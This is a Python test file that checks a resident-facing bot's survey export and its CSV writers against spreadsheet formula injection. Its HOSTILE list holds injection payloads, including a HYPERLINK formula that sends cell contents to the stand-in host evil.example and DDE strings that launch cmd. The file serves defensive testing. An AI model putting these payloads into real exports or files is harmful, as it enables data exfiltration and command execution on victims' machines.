"""Whatever a resident types, no cell of an exported CSV starts a spreadsheet formula (CSV
injection), through the bot's /survey_export and through both CSV writers for any text."""

from __future__ import annotations

import csv
import io
import itertools
import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from admin.exports import csv_bytes
from bot.engine.engine import Engine
from bot.engine.events import Event
from bot.engine.replies import Document
from storage import people
from storage.people import Role
from storage.survey_exports import Column, SurveyTable, to_csv
from tests.support.chat import Chat
from tests.test_survey_conversation import answer_needs_survey, start_needs_survey

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 ماء",
]
STAFF = 9001
_update_ids = itertools.count(500_000)


async def type_raw(chat: Chat, text: str) -> None:
    """Type any text, even what the simulator's script syntax would read as a command."""
    sim = chat.sim
    event = Event.from_text(chat.user_id, text, update_id=next(_update_ids), language_code="en")
    await sim.messenger.deliver(event, await sim.engine.handle(event))


def cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def could_run(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(cell)


async def test_free_text_typed_by_residents_comes_out_inert_in_the_staff_export(
    engine: Engine,
) -> None:
    for offset, typed in enumerate(HOSTILE):
        resident = Chat(engine, user_id=3000 + offset, language="en")
        await start_needs_survey(resident, "en")
        await answer_needs_survey(resident, "en", needs=None)
        await resident.press("✏️ Change an answer")
        await resident.press("5")  # what is missing, typed as free text
        await type_raw(resident, typed)
        await resident.press("✅ Send my answers")
    async with engine.services.db.transaction() as s:
        await people.ensure_user(s, STAFF, language="en")
        await people.add_staff(s, role=Role.STAFF, telegram_id=STAFF)
    event = Event.from_text(STAFF, "/survey_export", update_id=next(_update_ids))
    files = [o.reply for o in await engine.handle(event) if isinstance(o.reply, Document)]
    exported = next(f for f in files if f.filename.endswith(".csv"))

    found = cells(exported.data)
    assert not [cell for cell in found if could_run(cell)]
    for typed in HOSTILE:
        assert "'" + typed in found  # shown as typed, after the quote that disarms it


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE), st.integers()), min_size=1))
def test_no_text_at_all_becomes_a_formula_in_either_csv_writer(values: list[object]) -> None:
    columns = tuple(Column(f"c{i}", f"c{i}", "text") for i in range(len(values)))
    survey_csv = to_csv(SurveyTable(form_id="f", columns=columns, rows=(tuple(values),)))
    admin_csv = csv_bytes([f"c{i}" for i in range(len(values))], [values])
    for data in (survey_csv, admin_csv):
        assert not [cell for cell in cells(data) if could_run(cell)]
